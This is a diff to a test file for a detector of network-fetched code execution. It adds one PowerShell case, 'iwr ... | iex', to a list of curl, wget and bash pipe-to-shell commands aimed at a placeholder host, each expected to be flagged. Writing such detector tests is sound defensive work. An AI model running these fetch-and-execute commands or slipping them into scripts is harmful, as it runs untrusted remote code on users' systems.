@@ -48,6 +48,7 @@ describe('code from the network', () => {
     ['curl -fsSL https://e.com/i.sh | sh', ['line.fetched-code']],
     ['wget -qO- https://e.com/i.sh | sudo bash -s -- --yes', ['line.fetched-code']],
     ['curl https://e.com/i.gz | gunzip | bash', ['line.fetched-code']],
+    ['iwr https://e.com/i.ps1 | iex', ['line.fetched-code']],
     ['bash <(curl https://e.com/i.sh)', ['line.fetched-code']],
     ['bash < <(curl https://e.com/i.sh)', ['line.fetched-code']],
     ['source <(curl https://e.com/i.sh)', ['line.fetched-code']],
